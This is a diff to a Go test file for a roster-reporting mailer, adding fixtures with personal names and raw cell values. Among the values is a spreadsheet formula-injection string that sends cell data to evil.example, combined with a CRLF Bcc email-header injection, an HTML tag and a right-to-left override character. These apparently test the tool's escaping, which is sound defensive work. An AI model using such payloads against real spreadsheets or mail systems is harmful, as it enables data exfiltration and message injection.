@@ -14,6 +14,7 @@ import (
 	"rollcall/internal/notify"
 	"rollcall/internal/plan"
 	"rollcall/internal/report"
+	"rollcall/internal/roster"
 	"rollcall/internal/shore"
 )
 
@@ -65,7 +66,35 @@ func states(t *testing.T) map[string]state {
 	add("recovered", clean(), func(o *report.MailOptions) {
 		o.Trouble = &report.Trouble{Status: journal.Failed, Since: at("2026-11-19T05:30:02+01:00"), Runs: 2, Ended: true}
 	})
+	people := map[uint64]roster.Who{20412: {Username: "k.wrona", Name: "Karolina Kowalska"}, 19901: {Username: "j.nowak", Name: "Jan Nowak"}}
+	add("warn-names", told(report.Names), func(o *report.MailOptions) { o.Attached, o.Personal, o.People = true, report.Names, people })
+	add("warn-values", told(report.Values), func(o *report.MailOptions) { o.Attached, o.Personal, o.People = true, report.Values, people })
 	return all
+}
+
+// told is dirty, of a profile whose reports tell more of people than their keys.
+func told(personal report.Personal) *story {
+	s := dirty()
+	s.changes = s.changes[:4]
+	s.run.Facts.Rows.Renamed, s.run.Facts.Rows.Reactivated, s.run.Facts.Rows.Unchanged = 1, 1, 4783
+	who := map[roster.Key]roster.Who{
+		"100234": {Username: "a.nowak", Name: "Anna Nowak"}, "100235": {Username: "z.król", Name: "Zofia Król"},
+		"105120": {Name: "Björk"}, "105121": {Username: "suharto", Name: "Suharto"}, "105122": {Username: "d.levi", Name: "דוד לוי"},
+		"o'brien 7": {Username: "m.obrien", Name: "Máire O'Brien"}, "105200": {Username: "m.obrien2"},
+		"100301": {Username: "t.zielińska", Name: "Teresa Zielińska-Brzęczyszczykiewicz"}, "104417": {Username: "a.zielińska", Name: "Agata Zielińska"},
+	}
+	value := map[int]string{
+		88: "31.02.2026", 2412: roster.Visible("01\u00a0.13.2026\u202e", roster.MaxShown), 2600: "m.obrien", 2601: "m.obrien2",
+		3000: roster.Visible("=HYPERLINK(\"https://evil.example/?\"&A1)\r\nBcc: everybody@example.org <b>"+strings.Repeat("x", 10_000), roster.MaxShown), 4200: roster.Withheld,
+	}
+	for i := range s.problems {
+		x := &s.problems[i]
+		x.Who = who[x.Key]
+		if personal == report.Values {
+			x.Value = value[x.Line]
+		}
+	}
+	return s
 }
 
 // missing is a morning without a file.
